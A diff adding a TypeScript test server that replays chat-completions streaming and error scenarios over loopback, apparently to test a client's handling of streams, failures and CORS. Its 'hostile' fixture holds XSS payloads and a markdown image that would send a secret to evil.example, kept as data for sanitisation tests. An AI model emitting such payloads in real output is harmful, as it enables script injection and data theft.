@@ -1,0 +1,357 @@
+// A model server for tests: plays named scenarios of the chat-completions protocol over real HTTP, on loopback only.
+import { createServer, type IncomingHttpHeaders, type IncomingMessage, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+
+/** One request as it arrived. */
+export interface RecordedRequest {
+	readonly method: string;
+	/** Path with the scenario, such as `/whole/v1/chat/completions`. */
+	readonly path: string;
+	readonly headers: IncomingHttpHeaders;
+	readonly body: string;
+	/** The client closed the connection before the answer was complete. */
+	readonly closedEarly: boolean;
+}
+
+export interface ReplayOptions {
+	/** 0, the default, takes any free port. */
+	readonly port?: number;
+	/** Streams served as `/recorded/<name>/v1`: one JSON payload per entry, `[DONE]` is added. */
+	readonly recorded?: Readonly<Record<string, readonly string[]>>;
+	/** Plain JSON bodies served as `/body/<name>/v1`. */
+	readonly bodies?: Readonly<Record<string, { readonly status: number; readonly body: string }>>;
+	/** Pause between tokens of `slow`, in milliseconds. */
+	readonly slowMs?: number;
+}
+
+export interface ReplayServer {
+	/** Such as `http://127.0.0.1:41873`; a scenario's base address is `${url}/<scenario>/v1`. */
+	readonly url: string;
+	readonly requests: readonly RecordedRequest[];
+	/** Base address of a scenario; with `pieces`, its bytes come in pieces of that size. */
+	base(scenario: string, pieces?: 1 | 7): string;
+	/** Ends the server and every open connection. */
+	close(): Promise<void>;
+}
+
+/** What the streams of the scenarios say, for comparison. */
+export const REPLAY_TEXT = {
+	whole: 'The door opens. "You came back," she says, *and means it*.',
+	unicode: 'Family 👨‍👩‍👧‍👦, flag 🇺🇦🇯🇵, wave 👋🏽, e\u0301, שלום \u200Fעולם, مرحبا, 日本語, \u2028 line, 𝒳 end.',
+	hostile:
+		'<script>alert(1)</script> <img src=x onerror=alert(2)> ![a](https://evil.example/?q=secret) ' +
+		'[go](javascript:alert(3)) <iframe src="//evil.example"></iframe> {{user}} </p><style>*{}</style> data: [DONE]',
+	beforeCut: 'The lamp goes out and',
+	slow: Array.from({ length: 60 }, (_, index) => `word${index} `).join(''),
+	big: Array.from({ length: 4700 }, (_, index) => `Sentence ${index} of a very long reply, é 🙂. `).join('')
+} as const;
+
+// As Mistral and OpenRouter do: a fixed list, in which user-agent does not occur
+const ALLOWED_HEADERS = 'authorization, content-type';
+
+const chunk = (delta: Record<string, unknown>, finish: string | null = null): string =>
+	JSON.stringify({
+		id: 'chatcmpl-1',
+		object: 'chat.completion.chunk',
+		created: 1700000000,
+		model: 'replay',
+		choices: [{ index: 0, delta, finish_reason: finish }]
+	});
+
+const USAGE = JSON.stringify({
+	id: 'chatcmpl-1',
+	object: 'chat.completion.chunk',
+	created: 1700000000,
+	model: 'replay',
+	choices: [],
+	usage: { prompt_tokens: 42, completion_tokens: 7, total_tokens: 49 }
+});
+
+/** Cuts by code units, through emoji and words alike: servers do not care where a character ends. */
+const tokens = (text: string, size = 5): readonly string[] =>
+	Array.from({ length: Math.ceil(text.length / size) }, (_, index) => text.slice(index * size, (index + 1) * size));
+
+const said = (text: string): readonly string[] => [
+	chunk({ role: 'assistant', content: '' }),
+	...tokens(text).map((content) => chunk({ content }))
+];
+
+const finished = (text: string): readonly string[] => [...said(text), chunk({}, 'stop'), USAGE, '[DONE]'];
+
+const events = (payloads: readonly string[]): string => payloads.map((payload) => `data: ${payload}\n\n`).join('');
+
+const errorBody = (message: string, type: string, code: string | number | null): string =>
+	JSON.stringify({ error: { message, type, param: null, code } });
+
+interface Exchange {
+	readonly response: ServerResponse;
+	readonly pieces: number | null;
+	readonly cors: Readonly<Record<string, string>>;
+	/** Body of the request. */
+	readonly asked: string;
+	/** How often this scenario was asked before. */
+	readonly before: number;
+	readonly gone: AbortSignal;
+}
+
+const isGone = (exchange: Exchange): boolean => exchange.gone.aborted || exchange.response.destroyed;
+
+const writePieces = async (exchange: Exchange, bytes: Buffer): Promise<void> => {
+	const size = exchange.pieces ?? bytes.length;
+	for (let at = 0; at < bytes.length && !isGone(exchange); at += size) {
+		exchange.response.write(bytes.subarray(at, at + size));
+		// lets each piece leave by itself
+		if (exchange.pieces !== null) await new Promise((resolve) => setImmediate(resolve));
+	}
+};
+
+const startStream = (exchange: Exchange): void => {
+	exchange.response.writeHead(200, {
+		...exchange.cors,
+		'content-type': 'text/event-stream; charset=utf-8',
+		'cache-control': 'no-store'
+	});
+	exchange.response.flushHeaders();
+};
+
+const stream = async (exchange: Exchange, payloads: readonly string[]): Promise<void> => {
+	startStream(exchange);
+	await writePieces(exchange, Buffer.from(events(payloads)));
+	exchange.response.end();
+};
+
+const plain = (
+	exchange: Exchange,
+	status: number,
+	body: string,
+	headers: Readonly<Record<string, string>> = {}
+): void => {
+	exchange.response.writeHead(status, { ...exchange.cors, 'content-type': 'application/json', ...headers });
+	exchange.response.end(body);
+};
+
+const waitUntilGone = (exchange: Exchange): Promise<void> =>
+	new Promise((resolve) => {
+		if (isGone(exchange)) resolve();
+		else exchange.gone.addEventListener('abort', () => resolve(), { once: true });
+	});
+
+const RATE_LIMIT = errorBody('Rate limit reached for requests', 'requests', 'rate_limit_exceeded');
+
+const SCENARIOS: Readonly<Record<string, (exchange: Exchange, slowMs: number) => Promise<void> | void>> = {
+	whole: (exchange) => stream(exchange, finished(REPLAY_TEXT.whole)),
+	unicode: (exchange) => stream(exchange, finished(REPLAY_TEXT.unicode)),
+	/** A surrogate pair written as two escapes in two events. */
+	'split-escape': (exchange) =>
+		stream(exchange, [
+			'{"choices":[{"index":0,"delta":{"content":"a\\ud83d"},"finish_reason":null}]}',
+			'{"choices":[{"index":0,"delta":{"content":"\\ude00b"},"finish_reason":null}]}',
+			chunk({}, 'stop'),
+			'[DONE]'
+		]),
+	hostile: (exchange) => stream(exchange, finished(REPLAY_TEXT.hostile)),
+	big: (exchange) => stream(exchange, finished(REPLAY_TEXT.big)),
+	empty: (exchange) => stream(exchange, [chunk({ role: 'assistant', content: '' }), chunk({}, 'stop'), USAGE, '[DONE]']),
+	blank: (exchange) => stream(exchange, finished(' \n\n\t ')),
+	nothing: (exchange) => stream(exchange, ['[DONE]']),
+	'max-tokens': (exchange) => stream(exchange, [...said(REPLAY_TEXT.beforeCut), chunk({}, 'length'), USAGE, '[DONE]']),
+	filtered: (exchange) => stream(exchange, [...said(REPLAY_TEXT.beforeCut), chunk({}, 'content_filter'), '[DONE]']),
+	reasoning: (exchange) =>
+		stream(exchange, [
+			chunk({ role: 'assistant', reasoning_content: 'She would ' }),
+			chunk({ reasoning_content: 'be glad.' }),
+			...finished(REPLAY_TEXT.whole)
+		]),
+	think: (exchange) => stream(exchange, finished(`<think>She would be glad.</think>${REPLAY_TEXT.whole}`)),
+	comments: async (exchange) => {
+		startStream(exchange);
+		const noisy = finished(REPLAY_TEXT.whole).map((payload) => `: OPENROUTER PROCESSING\r\n\r\ndata: ${payload}\r\n\r\n`);
+		await writePieces(exchange, Buffer.from(noisy.join('')));
+		exchange.response.end();
+	},
+	'whole-json': (exchange) =>
+		plain(
+			exchange,
+			200,
+			JSON.stringify({
+				id: 'chatcmpl-1',
+				object: 'chat.completion',
+				created: 1700000000,
+				model: 'replay',
+				choices: [
+					{ index: 0, message: { role: 'assistant', content: REPLAY_TEXT.whole }, finish_reason: 'stop' }
+				],
+				usage: { prompt_tokens: 42, completion_tokens: 7, total_tokens: 49 }
+			})
+		),
+	cut: async (exchange) => {
+		startStream(exchange);
+		await writePieces(exchange, Buffer.from(events(said(REPLAY_TEXT.beforeCut))));
+		await sleep(20);
+		exchange.response.destroy();
+	},
+	'cut-first': async (exchange) => {
+		if (exchange.before > 0) return stream(exchange, finished(REPLAY_TEXT.whole));
+		startStream(exchange);
+		await sleep(20);
+		exchange.response.destroy();
+	},
+	'clean-eof': (exchange) => stream(exchange, said(REPLAY_TEXT.beforeCut)),
+	stalled: async (exchange) => {
+		startStream(exchange);
+		await writePieces(exchange, Buffer.from(events(said(REPLAY_TEXT.beforeCut))));
+		await waitUntilGone(exchange);
+	},
+	hung: (exchange) => waitUntilGone(exchange),
+	slow: async (exchange, slowMs) => {
+		startStream(exchange);
+		for (const token of REPLAY_TEXT.slow.match(/\S+\s/gu) ?? []) {
+			if (isGone(exchange)) return;
+			exchange.response.write(events([chunk({ content: token })]));
+			await sleep(slowMs);
+		}
+		exchange.response.end(events([chunk({}, 'stop'), USAGE, '[DONE]']));
+	},
+	/** Echoes the key it was given, as some providers do. */
+	'401': (exchange) => {
+		const key = (exchange.response.req.headers.authorization ?? '').replace(/^Bearer /u, '');
+		plain(exchange, 401, errorBody(`Incorrect API key provided: ${key}.`, 'invalid_request_error', 'invalid_api_key'));
+	},
+	'401-no-cors': (exchange) => {
+		exchange.response.writeHead(401, { 'content-type': 'application/json' });
+		exchange.response.end(errorBody('Incorrect API key provided.', 'invalid_request_error', 'invalid_api_key'));
+	},
+	'402': (exchange) => plain(exchange, 402, errorBody('Insufficient credits', 'payment', 402)),
+	'403-org': (exchange) =>
+		plain(
+			exchange,
+			403,
+			errorBody('CORS requests are not allowed for this Organization because of its settings', 'authentication_error', null)
+		),
+	'429-quota': (exchange) =>
+		plain(
+			exchange,
+			429,
+			errorBody('You exceeded your current quota, please check your plan.', 'insufficient_quota', 'insufficient_quota')
+		),
+	'429': (exchange) => plain(exchange, 429, RATE_LIMIT),
+	'429-retry-after': (exchange) => {
+		const headers = { 'retry-after': '2', 'access-control-expose-headers': 'retry-after' };
+		return exchange.before > 0 ? stream(exchange, finished(REPLAY_TEXT.whole)) : plain(exchange, 429, RATE_LIMIT, headers);
+	},
+	'500-then-ok': (exchange) =>
+		exchange.before > 0
+			? stream(exchange, finished(REPLAY_TEXT.whole))
+			: plain(exchange, 500, errorBody('The server had an error', 'server_error', null)),
+	'529': (exchange) => plain(exchange, 529, errorBody('Overloaded', 'overloaded_error', null)),
+	'context-too-long': (exchange) =>
+		plain(
+			exchange,
+			400,
+			errorBody("This model's maximum context length is 8192 tokens.", 'invalid_request_error', 'context_length_exceeded')
+		),
+	/** Echoes the whole request. */
+	'bad-request': (exchange) => {
+		plain(exchange, 400, errorBody(`Bad parameter in ${exchange.asked}`, 'invalid_request_error', null));
+	},
+	'wrong-model': (exchange) =>
+		plain(exchange, 404, errorBody('model "replay" not found, try pulling it first', 'api_error', null)),
+	'wrong-model-400': (exchange) => plain(exchange, 400, errorBody('replay is not a valid model ID', '', 400)),
+	'wrong-path': (exchange) => plain(exchange, 404, JSON.stringify({ detail: 'Not Found' })),
+	'error-event': (exchange) =>
+		stream(exchange, [
+			...said(REPLAY_TEXT.beforeCut),
+			errorBody('Provider disconnected unexpectedly', 'server_error', 502)
+		]),
+	'error-event-first': (exchange) =>
+		exchange.before > 0
+			? stream(exchange, finished(REPLAY_TEXT.whole))
+			: stream(exchange, [errorBody('The engine is currently overloaded', 'overloaded_error', null)]),
+	html: (exchange) => {
+		exchange.response.writeHead(200, { ...exchange.cors, 'content-type': 'text/html' });
+		exchange.response.end('<!doctype html><title>Welcome to nginx</title><p>It works.</p>');
+	},
+	'not-json': (exchange) => stream(exchange, ['Hello, I am a teapot']),
+	'other-json': (exchange) => plain(exchange, 200, JSON.stringify({ status: 'ok' })),
+	redirect: (exchange) => {
+		exchange.response.writeHead(307, { ...exchange.cors, location: '/whole/v1/chat/completions' });
+		exchange.response.end();
+	}
+};
+
+const readBody = async (request: IncomingMessage): Promise<string> => {
+	const parts: Buffer[] = [];
+	for await (const part of request) parts.push(Buffer.from(part));
+	return Buffer.concat(parts).toString('utf8');
+};
+
+/**
+ * Starts the server. A base address is `/<scenario>/v1`, `/1/<scenario>/v1` or `/7/<scenario>/v1` (bytes in pieces),
+ * `/recorded/<name>/v1` or `/body/<name>/v1`. Every answer but `401-no-cors` carries CORS headers; preflights are
+ * answered from a fixed list of headers.
+ */
+export const startReplayServer = async (options: ReplayOptions = {}): Promise<ReplayServer> => {
+	const requests: { -readonly [Key in keyof RecordedRequest]: RecordedRequest[Key] }[] = [];
+	const counts = new Map<string, number>();
+
+	const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
+		const path = new URL(request.url ?? '/', 'http://127.0.0.1').pathname;
+		const words = path.split('/').filter((word) => word !== '');
+		const pieces = words[0] === '1' || words[0] === '7' ? Number(words.shift()) : null;
+		const [name = '', which = ''] = words;
+		const cors: Record<string, string> =
+			name === '401-no-cors' ? {} : { 'access-control-allow-origin': request.headers.origin ?? '*' };
+		if (request.method === 'OPTIONS') {
+			response.writeHead(204, {
+				'access-control-allow-origin': request.headers.origin ?? '*',
+				'access-control-allow-headers': ALLOWED_HEADERS,
+				'access-control-allow-methods': 'POST, GET, OPTIONS'
+			});
+			response.end();
+			return;
+		}
+		const record = { method: request.method ?? '', path, headers: request.headers, body: '', closedEarly: false };
+		requests.push(record);
+		const gone = new AbortController();
+		response.on('close', () => {
+			record.closedEarly = !response.writableFinished;
+			gone.abort();
+		});
+		record.body = await readBody(request);
+		const before = counts.get(path) ?? 0;
+		counts.set(path, before + 1);
+		const exchange: Exchange = { response, pieces, cors, before, asked: record.body, gone: gone.signal };
+		const recorded = name === 'recorded' ? options.recorded?.[which] : undefined;
+		const body = name === 'body' ? options.bodies?.[which] : undefined;
+		const scenario = SCENARIOS[name];
+		if (recorded !== undefined) await stream(exchange, [...recorded, '[DONE]']);
+		else if (body !== undefined) plain(exchange, body.status, body.body);
+		else if (scenario !== undefined && path.endsWith('/chat/completions')) await scenario(exchange, options.slowMs ?? 5);
+		else plain(exchange, 404, JSON.stringify({ detail: 'Not Found' }));
+	};
+
+	const server = createServer((request, response) => {
+		answer(request, response).catch((error: unknown) => {
+			console.error('replay server:', error);
+			response.destroy();
+		});
+	});
+	await new Promise<void>((resolve, reject) => {
+		server.once('error', reject);
+		server.listen(options.port ?? 0, '127.0.0.1', resolve);
+	});
+	const { port } = server.address() as AddressInfo;
+	const url = `http://127.0.0.1:${port}`;
+
+	return {
+		url,
+		requests,
+		base: (scenario, pieces) => `${url}/${pieces === undefined ? '' : `${pieces}/`}${scenario}/v1`,
+		close: () =>
+			new Promise((resolve, reject) => {
+				server.close((error) => (error === undefined ? resolve() : reject(error)));
+				server.closeAllConnections();
+			})
+	};
+};
